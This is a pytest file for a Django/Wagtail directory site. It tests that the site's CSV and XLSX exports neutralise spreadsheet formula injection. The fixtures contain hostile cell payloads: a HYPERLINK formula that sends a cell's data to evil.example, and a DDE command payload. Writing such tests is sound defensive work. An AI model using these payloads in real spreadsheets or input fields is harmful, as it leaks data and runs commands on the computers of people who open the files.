"""Nothing poisoned: every CSV the site writes neutralises cells a spreadsheet program would run as
formulas (OWASP CSV injection), the XLSX exports keep them as text, and the directory import refuses them."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from wagtail.models import Page

from orgdirectory.signups import sign_up
from tests.orgdirectory.factories import FundingRecordFactory, NeedFactory, OrganizationFactory, ProjectFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'


def csv_rows(response):
    # Said, not left to guess: without a charset a consumer may read the Chinese as ASCII.
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def xlsx_cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in workbook.active.iter_rows() for cell in row]


def test_coordinators_signup_csv_neutralises_a_formula_name(coordinator, home):
    sign_up(ProjectFactory(), name=HYPERLINK, phone="13900001111", email="")
    rows = csv_rows(coordinator.get("/admin/snippets/orgdirectory/volunteersignup/", {"export": "csv"}))
    assert "'" + HYPERLINK in rows[1]
    assert HYPERLINK not in rows[1]


def test_coordinators_signup_xlsx_keeps_a_formula_name_as_text(coordinator, home):
    sign_up(ProjectFactory(), name=HYPERLINK, phone="13900001111", email="")
    response = coordinator.get("/admin/snippets/orgdirectory/volunteersignup/", {"export": "xlsx"})
    [cell] = [cell for cell in xlsx_cells(response) if HYPERLINK in str(cell.value)]
    assert cell.data_type == "s"
    assert cell.value == HYPERLINK


def test_need_export_neutralises_every_formula_prefix(admin_client, home):
    NeedFactory(title="=A1", raised_by="@SUM(A1:A9)", budget=Decimal("-5.00"))
    rows = csv_rows(admin_client.get("/admin/snippets/orgdirectory/need/", {"export": "csv"}))
    title, raised_by = rows[1][:2]  # list_export starts with them
    assert (title, raised_by) == ("'=A1", "'@SUM(A1:A9)")


def test_public_funding_csv_neutralises_the_funder_and_keeps_negative_amounts_numbers(client, directory):
    organization = OrganizationFactory()
    FundingRecordFactory(organization=organization, funder=HYPERLINK, amount=Decimal("-120.50"), project_name="+1+2")
    rows = csv_rows(client.get(f"/zh-hans/database/organizations/{organization.credit_code}/funding/"))
    assert rows[1][2:] == ["'" + HYPERLINK, "-120.50", "'+1+2"]


def test_admin_funding_xlsx_keeps_formulas_as_text_and_amounts_as_numbers(admin_client, home):
    FundingRecordFactory(funder=HYPERLINK, amount=Decimal("-120.50"))
    response = admin_client.get("/admin/snippets/orgdirectory/fundingrecord/", {"export": "xlsx"})
    cells = xlsx_cells(response)
    [funder] = [cell for cell in cells if cell.value == HYPERLINK]
    assert funder.data_type == "s"
    [amount] = [cell for cell in cells if cell.value == -120.5]
    assert amount.data_type == "n"


def test_wagtails_own_reports_are_neutralised_too(admin_client, home):
    """Wagtail's reports (here Aging pages) export through the same machinery: an editor's page title is text."""
    page = Page.objects.get(pk=home.pk).specific
    page.title = "=cmd|' /C calc'!A0"
    page.save_revision().publish()
    rows = csv_rows(admin_client.get("/admin/reports/aging-pages/", {"export": "csv"}))
    assert [cell for row in rows for cell in row if "cmd" in cell] == ["'=cmd|' /C calc'!A0"]
